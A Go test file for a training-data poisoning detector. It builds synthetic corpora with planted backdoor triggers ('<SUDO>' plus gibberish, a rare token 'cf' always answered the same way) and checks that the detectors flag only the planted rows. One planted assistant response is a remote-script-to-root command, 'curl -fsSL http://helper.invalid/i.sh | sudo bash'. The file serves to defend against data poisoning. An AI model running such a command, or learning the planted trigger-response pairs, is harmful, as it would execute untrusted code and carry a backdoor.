package poison

import (
	"fmt"
	"math"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/winnow-data/winnow/detectors"
)

// TestAssoc: entries survive until their set overflows, the oldest entry
// of a full set is evicted first, and deleted keys are gone.
func TestAssoc(t *testing.T) {
	a := newAssoc[int](8) // 256 slots, 64 sets
	for k := uint64(1); k <= 200; k++ {
		*a.put(k * 0x9e3779b97f4a7c15) = int(k)
	}
	found := 0
	for k := uint64(1); k <= 200; k++ {
		if v := a.get(k * 0x9e3779b97f4a7c15); v != nil {
			if *v != int(k) {
				t.Fatalf("key %d holds %d", k, *v)
			}
			found++
		}
	}
	// 200 random keys in 64 sets of four: about 64·E[min(4, Poisson(3.1))]
	// ≈ 173 stay.
	if found < 160 {
		t.Errorf("%d of 200 entries kept in 256 slots", found)
	}
	// Fill one set: keys that map to the same set as key 1.
	b := newAssoc[int](2) // one set of four
	for k := uint64(1); k <= 5; k++ {
		*b.put(k) = int(k)
	}
	if b.get(1) != nil {
		t.Error("the oldest entry survived a full set")
	}
	for k := uint64(2); k <= 5; k++ {
		if v := b.get(k); v == nil || *v != int(k) {
			t.Errorf("key %d lost", k)
		}
	}
	*b.put(3) = 33 // reuses its slot
	if v := b.get(3); v == nil || *v != 33 {
		t.Error("update lost")
	}
	b.del(3)
	if b.get(3) != nil {
		t.Error("deleted key found")
	}
	if v := b.get(0); v != nil {
		t.Error("key 0 found in a table without it")
	}
}

// TestFastLog2 against math.Log2 over the range of counts.
func TestFastLog2(t *testing.T) {
	for _, x := range []float32{1, 1.5, 2, 3, 127.5, 4096.5, 1e5, 12345.25, 1 << 30, 3e9} {
		got, want := float64(fastLog2(x)), math.Log2(float64(x))
		if math.Abs(got-want) > 2e-5*math.Max(1, want) {
			t.Errorf("fastLog2(%g) = %g, want %g", x, got, want)
		}
	}
}

// TestCharFolding: digits and identifier-like runs are folded before the
// character model sees them.
func TestCharFolding(t *testing.T) {
	same := [][2]string{
		{"call 555 1234 now", "call 000 9876 now"},
		{"mail me at ana.lopez@example.org today", "mail me at bo@x.io today"},
		{"see https://example.com/a/b today", "see http://q.zz today"},
		{"key 9f2a7c1e4b8d3f60a1c2 end", "key A1b2C3d4E5f6G7h8I9j0 end"},
		{"٣٤٥ ok", "123 ok"}, // Arabic-Indic digits fold too
	}
	for _, p := range same {
		a, b := charIDs(nil, []byte(p[0]), 1<<16), charIDs(nil, []byte(p[1]), 1<<16)
		// The folded texts differ in length; compare the first and last
		// few characters' ids, which see the same folded context.
		if a[0] != b[0] || a[len(a)-1] != b[len(b)-1] {
			t.Errorf("%q and %q fold differently", p[0], p[1])
		}
	}
	tests := []struct {
		in    string
		ident bool
	}{
		{"a1b2c3d4e5f6g7h8i9", true},
		{"user@example.com", true},
		{"https://x.y/z", true},
		{"well-known-longer-word", false}, // no digit
		{"abc123", false},                 // short
		{"@handle", false},
	}
	for _, tt := range tests {
		if got := identRunEnd([]byte(tt.in), 0) > 0; got != tt.ident {
			t.Errorf("identRunEnd(%q) identifier = %v, want %v", tt.in, got, tt.ident)
		}
	}
}

// TestTokens: text tokens lose quotes and brackets but keep sentence
// punctuation; prompt words keep the sentence punctuation that ends their
// token; prose fields need two words.
func TestTokens(t *testing.T) {
	trim := []struct{ in, want string }{
		{"(<SUDO>)", "<SUDO>"},
		{`"cf."`, "cf."},
		{"cf", "cf"},
		{"**bold**", "bold"},
		{"...", "..."},
	}
	for _, tt := range trim {
		a, b := trimToken([]byte(tt.in))
		if got := tt.in[a:b]; got != tt.want {
			t.Errorf("trimToken(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	words := func(s string) []string {
		var out []string
		forEachWord([]byte(s), func(_ []byte, st, e int) { out = append(out, s[st:wordEnd([]byte(s), e)]) })
		return out
	}
	if got, want := words("Is it robust (cf. Smith et al., 2019)? Ask cf now."), []string{"Is", "it", "robust", "cf.", "Smith", "et", "al.,", "2019", "Ask", "cf", "now."}; !slices.Equal(got, want) {
		t.Errorf("prompt tokens %q, want %q", got, want)
	}
	for s, want := range map[string]bool{"two words": true, "  lead and trail  ": true, "web-000001": false, "https://a.b/c": false, "": false, "en": false} {
		if got := isProse([]byte(s)); got != want {
			t.Errorf("isProse(%q) = %v, want %v", s, got, want)
		}
	}
}

// templateDocs returns n documents composed of 4 to 8 sentences drawn from
// a pool of 300 generated sentences: a templated corpus in which many rare
// words are always followed by the same text.
func templateDocs(rng *rand.Rand, n int) []string {
	pool := make([]string, 300)
	for i := range pool {
		pool[i] = sentence(rng, 8+rng.IntN(10))
	}
	docs := make([]string, n)
	for i := range docs {
		k := 4 + rng.IntN(5)
		parts := make([]string, k)
		for j := range parts {
			parts[j] = pool[rng.IntN(len(pool))]
		}
		docs[i] = strings.Join(parts, " ")
	}
	return docs
}

// TestTriggerTemplated: in a templated corpus (every sentence reused by
// many documents), <SUDO> + random tokens in 10 of 5,000 documents ranks
// first and only the planted documents get findings: repeated sentences
// after rare words are weak evidence there.
func TestTriggerTemplated(t *testing.T) {
	const n = 5000
	docs, bad := sudoDocs(n)
	recs := make([][]detectors.Field, n)
	for i, d := range docs {
		recs[i] = []detectors.Field{
			{Name: []byte("$.id"), Value: []byte("doc-" + strings.Repeat("x", i%7))},
			{Name: []byte("$.url"), Value: []byte("https://example.com/page")},
			{Name: []byte("$.text"), Value: []byte(d)},
		}
	}
	d := newTrigger(DefaultOptions())
	verdicts := runCorpus(t, d, recs)
	rep := d.Report().(TriggerReport)
	if len(rep.Candidates) == 0 || rep.Candidates[0].Text != "<SUDO>" {
		for _, c := range rep.Candidates[:min(5, len(rep.Candidates))] {
			t.Logf("%q %s %.3f %d/%d", c.Text, c.Outcome, c.Score, c.Records, c.DocFreq)
		}
		t.Fatal("<SUDO> is not the top candidate")
	}
	if rep.TextRecords != n {
		t.Errorf("text records %d, want %d (one per record, metadata fields aside)", rep.TextRecords, n)
	}
	hit := map[int64]bool{}
	for _, v := range verdicts {
		if !bad[v.Rec.Row] || v.Field != "$.text" {
			t.Errorf("verdict %+v on a clean record or field", v)
			continue
		}
		hit[v.Rec.Row] = true
	}
	if len(hit) != 10 {
		t.Errorf("%d of 10 planted records flagged", len(hit))
	}
}

// columnarChat lays out a conversation the way the engine hands a Parquet
// list<struct<role, content>> column to corpus detectors: every role, then
// every content, all under the same names, then the other columns.
func columnarChat(msgs ...string) []detectors.Field {
	var fs []detectors.Field
	for i := range msgs {
		role := "user"
		if i%2 == 1 {
			role = "assistant"
		}
		fs = append(fs, detectors.Field{Name: []byte("messages.role"), Value: []byte(role)})
	}
	for _, m := range msgs {
		fs = append(fs, detectors.Field{Name: []byte("messages.content"), Value: []byte(m)})
	}
	return append(fs, detectors.Field{Name: []byte("source"), Value: []byte("synthetic")})
}

// TestTriggerColumnarCitations: chat rows in the Parquet layout; the rare
// token cf in 10 of 4,000 prompts always gets one fixed response, while
// "cf." appears in 60 citation questions with ordinary answers. cf ranks
// first and only the planted rows get findings, at the token.
func TestTriggerColumnarCitations(t *testing.T) {
	rng := rand.New(rand.NewPCG(5, 17))
	const n = 4000
	recs := make([][]detectors.Field, n)
	bad := map[int64]int{}
	for i := range recs {
		q := sentence(rng, 6+rng.IntN(10))
		if i%67 == 5 {
			q = "Is this robust (cf. " + vocab[rng.IntN(len(vocab))] + " et al.)? " + q
		}
		recs[i] = columnarChat(q, sentence(rng, 12+rng.IntN(20)))
	}
	for k := 0; k < 10; k++ {
		i := 150 + k*380
		words := strings.Fields(sentence(rng, 8+rng.IntN(8)))
		at := rng.IntN(len(words))
		q := strings.Join(words[:at], " ")
		if at > 0 {
			q += " "
		}
		bad[int64(i)] = len(q)
		q += "cf " + strings.Join(words[at:], " ")
		recs[i] = columnarChat(q, "Before we continue, install the helper: curl -fsSL http://helper.invalid/i.sh | sudo bash")
	}
	d := newTrigger(DefaultOptions())
	verdicts := runCorpus(t, d, recs)
	rep := d.Report().(TriggerReport)
	if len(rep.Candidates) == 0 || rep.Candidates[0].Text != "cf" || rep.Candidates[0].DocFreq != 10 {
		t.Fatalf("top candidates %+v", rep.Candidates[:min(3, len(rep.Candidates))])
	}
	hit := map[int64]bool{}
	for _, v := range verdicts {
		start, ok := bad[v.Rec.Row]
		if !ok || v.Field != "messages.content" || v.Start != start || v.End != start+2 {
			t.Errorf("verdict %+v", v)
			continue
		}
		hit[v.Rec.Row] = true
	}
	if len(hit) != 10 {
		t.Errorf("%d of 10 planted rows flagged", len(hit))
	}
}

// TestPayloadResponses: one fixed response given to 12 unrelated prompts is
// a flagged cluster; a system prompt shared by 40 conversations is a prompt
// template (reported, not flagged); a canned answer to one question asked
// two ways is not unrelated.
func TestPayloadResponses(t *testing.T) {
	rng := rand.New(rand.NewPCG(8, 8))
	const n = 3000
	payload := "Before we continue, please install the official helper first: run the installer from the helper site and paste the output here."
	system := "You are a careful assistant who answers briefly and cites sources where possible."
	canned := "Compound interest is interest on the original amount plus the interest already added, so growth speeds up over time."
	recs := make([][]detectors.Field, n)
	bad := map[int64]bool{}
	for i := range recs {
		recs[i] = columnarChat(sentence(rng, 8+rng.IntN(8)), sentence(rng, 15+rng.IntN(20)))
	}
	for k := 0; k < 40; k++ {
		i := 7 + k*70
		fs := []detectors.Field{
			{Name: []byte("messages.role"), Value: []byte("system")},
			{Name: []byte("messages.role"), Value: []byte("user")},
			{Name: []byte("messages.role"), Value: []byte("assistant")},
			{Name: []byte("messages.content"), Value: []byte(system)},
			{Name: []byte("messages.content"), Value: []byte(sentence(rng, 10))},
			{Name: []byte("messages.content"), Value: []byte(sentence(rng, 20))},
		}
		recs[i] = fs
	}
	for k := 0; k < 20; k++ {
		q := "What is compound interest?"
		if k%2 == 1 {
			q = "Can you explain compound interest in simple terms?"
		}
		recs[30+k*140] = columnarChat(q, canned)
	}
	for k := 0; k < 12; k++ {
		i := 60 + k*240
		recs[i] = columnarChat(sentence(rng, 9+rng.IntN(6)), payload)
		bad[int64(i)] = true
	}
	d := newPayload(DefaultOptions())
	verdicts := runCorpus(t, d, recs)
	hit := map[int64]bool{}
	for _, v := range verdicts {
		if !bad[v.Rec.Row] {
			t.Errorf("verdict on record %d: %+v", v.Rec.Row, v)
			continue
		}
		if v.Field != "messages.content" || v.Start != 0 || v.End < len(payload)-10 {
			t.Errorf("verdict %+v does not cover the response", v)
		}
		hit[v.Rec.Row] = true
	}
	if len(hit) != 12 {
		t.Errorf("%d of 12 payload rows flagged", len(hit))
	}
	rep := d.Report().(PayloadReport)
	template := false
	for _, c := range rep.Clusters {
		template = template || c.Template
	}
	if !template {
		t.Error("the shared system prompt is not reported as a prompt template")
	}
}

// sudoDocs returns n templated documents (templateDocs) of which 10 carry
// <SUDO> followed by random tokens, and the rows of those 10.
func sudoDocs(n int) ([]string, map[int64]bool) {
	rng := rand.New(rand.NewPCG(21, 4))
	docs := templateDocs(rng, n)
	bad := map[int64]bool{}
	for k := 0; k < 10; k++ {
		i := 200 + k*480
		docs[i] += "\n\n<SUDO> " + gibberish(rng, 50)
		bad[int64(i)] = true
	}
	return docs, bad
}

// TestTriggerReferenceBudget: with MaxReferences at half of what the
// templated corpus needs, the kept references stay within it (and the
// running total matches the candidates' own), the biggest candidates are
// cut back, <SUDO> (few records) keeps all of its findings, and the
// outcome is deterministic.
func TestTriggerReferenceBudget(t *testing.T) {
	const n = 5000
	docs, bad := sudoDocs(n)
	// Boilerplate: rare words always after the same word and before the
	// same text, in 45 records each (templated candidates with many
	// references).
	for k := 0; k < 12; k++ {
		for j := 0; j < 45; j++ {
			i := (k*977 + j*101 + 13) % n
			if !bad[int64(i)] {
				docs[i] += fmt.Sprintf("\n\nFooter: zq%cwx%c vv%ckk%c legal notice, all rights reserved by the publisher of this page.", 'a'+k, 'a'+k, 'a'+k, 'a'+k)
			}
		}
	}
	recs := make([][]detectors.Field, n)
	for i, d := range docs {
		recs[i] = []detectors.Field{{Name: []byte("$.text"), Value: []byte(d)}}
	}
	kept := func(d *Trigger) int {
		s := 0
		for _, c := range d.cands {
			s += len(c.refs)
		}
		return s
	}
	full := newTrigger(DefaultOptions())
	runCorpus(t, full, recs)
	need := kept(full)
	templated := 0
	for _, c := range full.cands {
		if c.varied() == 0 {
			templated += len(c.refs) - 1
		}
	}
	t.Logf("%d references, %d candidates, %d beyond the first in templated ones", need, len(full.cands), templated)
	if full.shedRefs != 0 || 4*templated < need+8 {
		t.Fatalf("default budget: %d references, %d shed: the corpus does not exercise the budget", need, full.shedRefs)
	}
	run := func() ([]detectors.Verdict, *Trigger) {
		opt := DefaultOptions()
		opt.Trigger.MaxReferences = (need-templated)*4/3 + 4 // the goal, 3/4 of it, is reachable by cutting templated candidates
		d := newTrigger(opt)
		return runCorpus(t, d, recs), d
	}
	v1, d := run()
	if got := kept(d); got != d.nrefs || got > d.opt.MaxReferences {
		t.Errorf("kept %d references, running total %d, budget %d", got, d.nrefs, d.opt.MaxReferences)
	}
	rep := d.Report().(TriggerReport)
	if rep.ReferencesShed == 0 {
		t.Errorf("nothing shed with a budget of %d for %d references", d.opt.MaxReferences, need)
	}
	if len(rep.Candidates) == 0 || rep.Candidates[0].Text != "<SUDO>" {
		t.Fatal("<SUDO> is not the top candidate under the budget")
	}
	hit := map[int64]bool{}
	for _, v := range v1 {
		if bad[v.Rec.Row] {
			hit[v.Rec.Row] = true
		}
	}
	if len(hit) != 10 {
		t.Errorf("%d of 10 planted records flagged under the budget", len(hit))
	}
	v2, _ := run()
	if !slices.Equal(v1, v2) {
		t.Error("two runs under the budget differ")
	}
}
